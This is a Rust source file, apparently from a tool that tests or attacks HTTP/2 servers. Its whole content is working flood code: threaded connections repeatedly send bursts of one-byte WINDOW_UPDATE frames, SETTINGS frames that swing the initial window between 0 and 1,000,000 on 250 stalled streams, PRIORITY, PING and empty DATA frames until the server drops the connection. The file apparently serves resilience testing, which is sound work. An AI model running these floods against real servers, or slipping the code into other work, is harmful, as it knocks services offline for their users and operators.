//! Small HTTP/2 frames, as many as the server takes.

use std::io::{self, Write as _};
use std::net::{Shutdown, TcpStream};
use std::thread;

use crate::attacks::attacker::http2::{
    self, CONNECTION, END_STREAM, FIRST_STREAM, Kind, NO_FLAGS, frame, initial_window, request,
};
use crate::attacks::attacker::shared::{Attacker, Tally, drain, source};

/// Connections that are flooded at once: each worker has some.
const CONNECTIONS: u8 = 4;

/// Frames that are sent at a time.
const BURST: usize = 500;

/// Streams that wait for a body while the window of each changes.
const STREAMS: usize = 250;

/// The window that HTTP/2 has by default.
const WINDOW: u32 = 65_535;

/// What is sent on a connection.
#[derive(Clone, Debug)]
pub(super) struct Flood {
    beginning: Vec<u8>,
    burst: Vec<u8>,
}

pub(super) fn begin(attacker: &Attacker, flood: fn() -> Flood) {
    for connection in 0..CONNECTIONS {
        let attacker = attacker.clone();
        thread::spawn(move || {
            let flood = flood();
            loop {
                attacker.attempt(source(connection), |stream| flood.send(stream, &attacker.tally));
            }
        });
    }
}

impl Flood {
    pub(super) fn window_updates() -> Self {
        // The rest of the answer waits for the stream's window, which stays as it is.
        let asked = request(FIRST_STREAM, "GET", "/openapi.yaml", END_STREAM);
        let update = frame(Kind::WindowUpdate, NO_FLAGS, CONNECTION, &1_u32.to_be_bytes());
        Self::new(&asked, &update)
    }

    pub(super) fn initial_windows() -> Self {
        let streams = (FIRST_STREAM..).step_by(2).take(STREAMS);
        let open: Vec<u8> = streams.flat_map(ask_without_a_body).collect();
        let to_and_fro = [initial_window(0), initial_window(1_000_000)].concat();
        Self::new(&open, &to_and_fro)
    }

    pub(super) fn priorities() -> Self {
        // It depends on no stream and has the least weight.
        let priority = |stream| frame(Kind::Priority, NO_FLAGS, stream, &[0, 0, 0, 0, 1]);
        let streams = (FIRST_STREAM..).step_by(2).take(BURST);
        let burst = streams.flat_map(priority).collect();
        Self { beginning: http2::beginning(WINDOW), burst }
    }

    pub(super) fn pings() -> Self {
        Self::new(&[], &frame(Kind::Ping, NO_FLAGS, CONNECTION, b"attacked"))
    }

    pub(super) fn empty_data() -> Self {
        let open = ask_without_a_body(FIRST_STREAM);
        Self::new(&open, &frame(Kind::Data, NO_FLAGS, FIRST_STREAM, &[]))
    }

    fn new(open: &[u8], frame: &[u8]) -> Self {
        let mut beginning = http2::beginning(WINDOW);
        beginning.extend_from_slice(open);
        Self { beginning, burst: frame.repeat(BURST) }
    }

    /// Sends until the server closes the connection, which counts as lost.
    fn send(&self, mut stream: TcpStream, tally: &Tally) -> io::Result<()> {
        stream.write_all(&self.beginning)?;
        let reading = drain(&stream)?;
        while !reading.is_finished() && stream.write_all(&self.burst).is_ok() {
            Tally::add(&tally.sent, BURST as u64);
        }
        // The thread that reads ends with the connection.
        stream.shutdown(Shutdown::Both).ok();
        Err(io::ErrorKind::ConnectionReset.into())
    }
}

/// Opens a stream whose body never comes.
fn ask_without_a_body(stream: u32) -> Vec<u8> {
    request(stream, "POST", "/api/v1/route", NO_FLAGS)
}
